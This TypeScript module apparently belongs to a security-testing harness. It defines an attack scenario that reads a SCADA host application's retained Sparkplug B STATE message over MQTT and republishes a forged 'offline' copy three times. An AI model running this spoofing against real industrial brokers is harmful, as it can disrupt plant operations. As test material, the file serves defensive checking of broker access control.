import { type Attack, asStranger, pause } from './attack-scene';

const host = 'scada-main';
const readMs = 1500;
const times = 3;
const pauseMs = 5000;

/** Reads the kept STATE of the host application and writes it again as offline; the host answers at once, as it must. */
export const forgedHostOffline: Attack = (scene) =>
  asStranger(scene, 'host-tool', async (client, clientId) => {
    const topic = `spBv1.0/STATE/${host}`;
    let kept = '';
    client.on('message', (_topic, payload) => {
      kept ||= payload.toString('utf8');
    });
    await client.subscribeAsync(topic, { qos: 1 });
    await pause(scene, readMs);
    await client.unsubscribeAsync(topic);
    if (kept === '') throw new Error('the host application has no STATE');
    const forged = JSON.stringify({ ...JSON.parse(kept), online: false });
    for (let sent = 0; sent < times; sent++) {
      await client.publishAsync(topic, forged, { qos: 1, retain: true });
      await pause(scene, pauseMs);
    }
    return `MQTT client ${clientId} declared the host application ${host} offline ${times} times; it said each time that it is online.`;
  });
